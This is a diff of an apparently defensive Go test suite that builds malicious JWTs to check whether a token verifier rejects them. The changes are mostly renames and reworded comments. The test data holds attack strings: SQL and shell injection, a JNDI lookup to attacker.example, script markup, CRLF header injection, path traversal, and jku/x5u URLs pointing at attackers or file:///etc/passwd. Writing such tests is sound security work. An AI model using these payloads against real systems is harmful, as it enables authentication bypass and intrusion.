@@ -11,11 +11,11 @@ import (
 
 var keyAttacks = []func(*kit){keyID, keyIDForged, keyIDAbsent, keyInHeader, certificateInHeader, otherIssuer, oddKeys}
 
-// keyID gives the kid of no key, over a good signature: who tries all keys then
-// lets the token choose.
+// keyID names no key of the issuer in a token with a valid signature: a verifier
+// that tries all keys accepts it.
 func keyID(k *kit) {
 	if k.issuer.Secret.Len() > 0 {
-		return // a shared secret has no name
+		return // a shared secret has no kid
 	}
 	k.row = "kid"
 	for _, test := range []struct{ name, id string }{
@@ -24,7 +24,7 @@ func keyID(k *kit) {
 		{"of a device", "/dev/null"},
 		{"of a URL", "https://attacker.example/key"},
 		{"SQL", "x' UNION SELECT 'secret' --"},
-		{"SQL that is true", "' OR '1'='1"},
+		{"SQL, always true", "' OR '1'='1"},
 		{"shell", "$(id)|`id`;id"},
 		{"template", "${jndi:ldap://attacker.example/a}{{7*7}}"},
 		{"markup", "<script>alert(1)</script>"},
@@ -32,40 +32,37 @@ func keyID(k *kit) {
 		{"of a megabyte", strings.Repeat("k", 1<<20)},
 		{"Unicode", "ключ"},
 		{"from right to left", "\u202e" + k.key.id},
-		{"in capitals", strings.ToUpper(k.key.id)},
-		{"with a space behind", k.key.id + " "},
-		{"with a NUL behind", k.key.id + "\x00"},
-		{"with a path behind", k.key.id + "/../" + k.key.id},
+		{"in upper case", strings.ToUpper(k.key.id)},
+		{"with a space after", k.key.id + " "},
+		{"with a NUL after", k.key.id + "\x00"},
+		{"with a path after", k.key.id + "/../" + k.key.id},
 		{"with a line break", "x\r\nX-Injected: yes"},
 		{"empty", ""},
 		{"index", "0"},
 	} {
-		k.unknownKey(test.name, k.key.sign(k.header().set("kid", quote(test.id)).String(), k.claims().String()), k.key)
+		k.unknownKey(test.name, k.sign(k.header().set("kid", quote(test.id)), k.claims()), k.key)
 	}
 	for _, value := range []string{"null", "0", "1", "true", "[]", "{}", "[" + quote(k.key.id) + "]"} {
-		k.unknownKey("the JSON value "+value, k.key.sign(k.header().set("kid", value).String(), k.claims().String()), k.key)
+		k.unknownKey("the JSON value "+value, k.sign(k.header().set("kid", value), k.claims()), k.key)
 	}
 }
 
-// keyIDForged gives the kid of something whose content the attacker knows, and
-// signs with it.
+// keyIDForged names a key whose content the attacker knows, and signs with it.
 func keyIDForged(k *kit) {
 	k.row = "kid of a known secret"
 	for _, test := range []struct{ name, id, secret string }{
 		{"/dev/null", "/dev/null", ""},
-		{"/dev/null from below", "../../../../../../../dev/null", ""},
+		{"/dev/null, relative", "../../../../../../../dev/null", ""},
 		{"a SQL literal", "x' UNION SELECT 'secret' --", "secret"},
 		{"/proc", "/proc/sys/kernel/randomize_va_space", "2\n"},
 		{"its own text", "known", "known"},
 	} {
-		header := k.header().set("alg", `"HS256"`).set("kid", quote(test.id))
-		input := encode(header.String()) + "." + encode(k.claims().String())
-		k.forged(test.name, input+"."+encode(signAs("HS256", []byte(test.secret), input)))
+		k.hmac(test.name, "HS256", []byte(test.secret), k.header().set("kid", quote(test.id)))
 	}
 }
 
-// keyIDAbsent is good where the issuer has one key for the algorithm, and
-// ambiguous where it has several.
+// keyIDAbsent is valid if the issuer has one key for the algorithm, and ambiguous if
+// it has several.
 func keyIDAbsent(k *kit) {
 	k.row = "kid absent"
 	candidates := 0
@@ -76,7 +73,7 @@ func keyIDAbsent(k *kit) {
 	}
 	k.issuer.mu.Lock()
 	for _, odd := range k.issuer.oddKeys {
-		if odd.good {
+		if odd.usable {
 			candidates++
 		}
 	}
@@ -86,20 +83,20 @@ func keyIDAbsent(k *kit) {
 		k.signed("one of several keys", header, k.claims())
 		return
 	}
-	k.good("the only key", k.key.sign(header.String(), k.claims().String()))
+	k.valid("the only key", header, k.claims())
 }
 
-// keyInHeader brings the key along or says where to get it.
+// keyInHeader contains the key or its URL.
 //
 //	RFC 8725 §3.10: "blindly following a "jku" (JWK set URL) or "x5u" (X.509
 //	URL) header, which may contain an arbitrary URL, could result in
 //	server-side request forgery (SSRF) attacks."
 func keyInHeader(k *kit) {
 	k.row = "key in the header"
-	lure, own := k.issuer.lure(), k.issuer.lureJWK()
+	attacker, own := k.issuer.attackerKey(), k.issuer.attackerJWK()
 	injected := func(name string, header object) {
-		header = header.set("alg", quote(lure.algorithm))
-		k.unknownKey(name, lure.sign(header.String(), k.claims().String()), nil)
+		header = header.set("alg", quote(attacker.algorithm))
+		k.unknownKey(name, attacker.sign(header.String(), k.claims().String()), nil)
 	}
 	base := k.header()
 	for _, id := range []struct {
@@ -108,22 +105,21 @@ func keyInHeader(k *kit) {
 	}{
 		{"", base},
 		{", no kid", base.without("kid")},
-		{", its kid", base.set("kid", quote(lureID))},
+		{", its kid", base.set("kid", quote(attackerKeyID))},
 	} {
 		injected("jwk, signed with it"+id.name, id.header.set("jwk", own.String()))
 	}
 	injected("jwk without kid, signed with it", base.set("jwk", own.with(jwk{"kid": nil}).String()))
 	injected("jwk with the issuer's kid, signed with it", base.set("jwk", own.with(jwk{"kid": k.key.id}).String()))
-	secret := jwk{"kty": "oct", "kid": lureID, "k": encode("secret")}
-	input := encode(base.set("alg", `"HS256"`).set("jwk", secret.String()).String()) + "." + encode(k.claims().String())
-	k.forged("jwk with a secret, signed with it", input+"."+encode(signAs("HS256", []byte("secret"), input)))
+	secret := jwk{"kty": "oct", "kid": attackerKeyID, "k": encode("secret")}
+	k.hmac("jwk with a secret, signed with it", "HS256", []byte("secret"), base.set("jwk", secret.String()))
 	for _, parameter := range []string{"jku", "x5u"} {
-		for _, id := range []string{lureID, k.key.id} {
+		for _, id := range []string{attackerKeyID, k.key.id} {
 			name := parameter + " of the attacker, signed with that key, kid " + id
-			injected(name, base.set(parameter, quote(k.issuer.lureURL(k.row+": "+name))).set("kid", quote(id)))
+			injected(name, base.set(parameter, quote(k.issuer.attackerURL(k.row+": "+name))).set("kid", quote(id)))
 		}
 		name := parameter + " of the attacker"
-		k.signed(name, base.set(parameter, quote(k.issuer.lureURL(k.row+": "+name))), k.claims())
+		k.signed(name, base.set(parameter, quote(k.issuer.attackerURL(k.row+": "+name))), k.claims())
 		k.signed(parameter+" of the issuer", base.set(parameter, quote(k.issuer.KeysURL)), k.claims())
 		k.signed(parameter+" of a file", base.set(parameter, `"file:///etc/passwd"`), k.claims())
 	}
@@ -136,17 +132,17 @@ func keyInHeader(k *kit) {
 
 func certificateInHeader(k *kit) {
 	k.row = "certificate in the header"
-	lure := k.issuer.lure()
-	der := certificate(lure.private.(crypto.Signer))
+	attacker := k.issuer.attackerKey()
+	der := certificate(attacker.private.(crypto.Signer))
 	base := k.header()
 	for _, id := range []string{k.key.id, ""} {
-		header := base.set("alg", quote(lure.algorithm)).set("x5c", marshal(x5c(der)))
+		header := base.set("alg", quote(attacker.algorithm)).set("x5c", marshal(x5c(der)))
 		name := "x5c, signed with its key"
 		if id == "" {
 			header = header.without("kid")
 			name += ", no kid"
 		}
-		k.forged(name, lure.sign(header.String(), k.claims().String()))
+		k.forged(name, attacker.sign(header.String(), k.claims().String()))
 	}
 	if own, ok := k.key.private.(crypto.Signer); ok {
 		k.signed("x5c of the issuer", base.set("x5c", marshal(x5c(certificate(own)))), k.claims())
@@ -164,14 +160,14 @@ func certificateInHeader(k *kit) {
 // otherIssuer is a token of somebody who is not trusted, in part or whole.
 func otherIssuer(k *kit) {
 	k.row = "another issuer"
-	stranger := &key{id: k.key.id, algorithm: k.key.algorithm, private: foreign(k.key.algorithm)}
+	foreignKey := &key{id: k.key.id, algorithm: k.key.algorithm, private: foreign(k.key.algorithm)}
 	named := k.claims().set("iss", `"https://attacker.example"`)
-	k.forged("its key and its name", stranger.sign(k.header().String(), named.String()))
-	k.forged("its key and the issuer's name", stranger.sign(k.header().String(), k.claims().String()))
+	k.forged("its key and its name", foreignKey.sign(k.header().String(), named.String()))
+	k.forged("its key and the issuer's name", foreignKey.sign(k.header().String(), k.claims().String()))
 	k.signed("the issuer's key and its name", k.header(), named)
 }
 
-// oddKeys signs with what [Issuer.PublishOddKeys] has published.
+// oddKeys signs with the keys of [Issuer.PublishOddKeys].
 func oddKeys(k *kit) {
 	k.row = "odd key"
 	k.issuer.mu.Lock()
@@ -185,11 +181,11 @@ func oddKeys(k *kit) {
 		var input string
 		var signature []byte
 		for signature == nil {
-			input = encode(header.String()) + "." + encode(k.claims().String())
+			input = signingInput(header, k.claims())
 			signature = odd.sign(input)
 		}
 		a := k.attempt(odd.name, input+"."+encode(signature))
-		if odd.good {
+		if odd.usable {
 			a.Want, a.code = []int{http.StatusOK}, ""
 		} else {
 			a.Want = append(a.Want, http.StatusServiceUnavailable)
@@ -198,24 +194,24 @@ func oddKeys(k *kit) {
 	}
 }
 
-// Crossings yields tokens that mix two issuers up: the key of one and the name
-// of the other. They are for a handler that accepts the tokens of both, each
-// with its own keys; whoever throws all keys into one set lets them through.
-func Crossings(a, b *Issuer) iter.Seq[Attempt] {
+// CrossIssuerAttacks yields tokens with the key of one issuer and the name of the
+// other, for a handler that accepts the tokens of both. A verifier that puts all
+// keys into one set accepts them.
+func CrossIssuerAttacks(a, b *Issuer) iter.Seq[Attempt] {
 	return func(yield func(Attempt) bool) {
 		done := false
 		for _, pair := range []struct {
-			name          string
-			signing, said *Issuer
+			name           string
+			signing, named *Issuer
 		}{
 			{"key of the first and name of the second", a, b},
 			{"key of the second and name of the first", b, a},
 		} {
-			k := &kit{issuer: pair.said, section: "key", row: "two issuers", yield: yield, done: done}
+			k := &kit{issuer: pair.named, section: "key", row: "two issuers", yield: yield, done: done}
 			k.key = pair.signing.signer("", "")
-			own, other := k.header(), k.header().set("kid", quote(pair.said.signer("", "").id))
-			k.unknownKey(pair.name+", kid of the key", k.key.sign(own.String(), k.claims().String()), k.key)
-			k.unknownKey(pair.name+", kid of the name", k.key.sign(other.String(), k.claims().String()), k.key)
+			own, other := k.header(), k.header().set("kid", quote(pair.named.signer("", "").id))
+			k.unknownKey(pair.name+", kid of the key", k.sign(own, k.claims()), k.key)
+			k.unknownKey(pair.name+", kid of the name", k.sign(other, k.claims()), k.key)
 			done = k.done
 		}
 	}
